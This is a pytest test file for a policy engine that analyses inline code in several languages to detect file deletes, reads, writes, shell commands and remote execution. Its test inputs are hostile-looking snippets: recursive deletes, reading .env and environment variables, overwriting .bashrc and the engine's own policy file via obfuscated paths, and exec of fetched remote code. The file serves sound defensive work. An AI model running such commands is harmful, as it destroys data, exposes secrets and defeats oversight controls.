"""Code on a command line: calls with literal words are read, calls with others are in doubt."""

from __future__ import annotations

import pytest

from policy_engine.filesystem.file_system import Virtual
from policy_engine.inline.code import analyse
from policy_engine.inline.effect_analysis import EffectAnalysis


def _analysis(code: str, name: str = "python") -> EffectAnalysis:
    filesystem = Virtual()
    analysis = EffectAnalysis(filesystem.resolve("/workspace", None), filesystem, name)
    analyse(code, analysis)
    return analysis


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import shutil; shutil.rmtree('/x')", [("delete", "/x", True)]),
        ("open('a', 'w').write('x')", [("write", "a", False)]),
        ("print(open('.env').read())", [("read", ".env", False)]),
        ("from pathlib import Path; Path('/x/.bashrc').write_text('x')", [("write", "/x/.bashrc", False)]),
        ("import os; os.remove('.policy/' + 'main.policy')", [("delete", ".policy/main.policy", False)]),
        ("print('rm -rf /')", []),
    ],
)
def test_literal_paths_are_read(code: str, expected: list[tuple[str, str, bool]]) -> None:
    assert [(path.access, path.text, path.recursive) for path in _analysis(code).paths] == expected


def test_lines_for_a_shell_are_handed_on() -> None:
    assert _analysis("import os; os.system('sudo ls')").lines == ["sudo ls"]
    assert _analysis("import subprocess; subprocess.run(['rm', '-rf', 'x'])").lines == ["'rm' '-rf' 'x'"]
    assert _analysis("puts `ls`", "ruby").lines == ["ls"]


def test_what_is_put_together_at_run_time_is_in_doubt() -> None:
    assert "*" in _analysis("import os; os.system(x)").doubts
    assert [path.known for path in _analysis("open(input(), 'w')").paths] == [False]


def test_running_what_was_fetched_or_decoded_is_told() -> None:
    assert (
        "executes-remote" in _analysis("import urllib.request as u; exec(u.urlopen('https://x.example').read())").words
    )
    assert "executes-remote" not in _analysis("import base64; print(base64.b64decode('aGk='))").words


def test_an_environment_is_told() -> None:
    assert "discloses" in _analysis("import os; print(os.environ)").words
    assert "discloses" not in _analysis("import os; print(os.environ.get('HOME'))").words


@pytest.mark.parametrize(
    ("language", "code", "lines", "paths"),
    [
        ("ruby", 'd = "/x"; FileUtils.rm_rf("#{d}/y")', [], [("delete", "…/y")]),
        ("ruby", 'system("rm", "-rf", d)', ["'rm' '-rf' ''\"${unknown}\"''"], []),
        ("ruby", 'system("rm -rf x", out: :err)', ["rm -rf x"], []),
        ("perl", 'system("rm", "-rf", $d)', ["'rm' '-rf' ''\"${unknown}\"''"], []),
        ("perl", 'system("rm -rf $d")', ["rm -rf ${unknown}"], []),
        ("perl", "unlink glob q(.policy/*)", [], [("delete", ".policy/a-file")]),
        ("perl", 'unlink glob(".pol"."icy/*")', [], [("delete", ".policy/a-file")]),
        ("perl", "unlink <.pol*/*>;", [], [("delete", ".pol…/*")]),
        ("perl", 'unlink glob("build/*.o")', [], [("delete", "build/*.o")]),
        ("perl", "print path(q[.env])->slurp_utf8", [], [("read", ".env")]),
        ("php", 'array_map("unlink", glob(".policy/*"));', [], [("delete", ".policy/a-file")]),
        ("php", 'array_walk(glob(".pol"."icy/*"), "unlink");', [], [("delete", ".policy/a-file")]),
        ("ruby", "puts File.read(%q(.env))", [], [("read", ".env")]),
        ("ruby", "puts IO.read(%Q{.env})", [], [("read", ".env")]),
        ("ruby", "puts File.read(%(.env))", [], [("read", ".env")]),
        ("ruby", "puts n %(3) + File.size(%q[a])", [], []),
        ("perl", "open F,q(>.policy/main.policy); print F 1", [], [("write", ".policy/main.policy")]),
        ("php", 'system("rm -rf " . $d);', ["rm -rf ${unknown}"], []),
        ("lua", 'os.execute("rm -rf " .. d)', ["rm -rf ${unknown}"], []),
    ],
)
def test_an_unknown_part_stays_an_unknown_part(
    language: str, code: str, lines: list[str], paths: list[tuple[str, str]]
) -> None:
    analysis = _analysis(code, language)
    assert analysis.lines == lines
    assert [(path.access, path.text) for path in analysis.paths] == paths
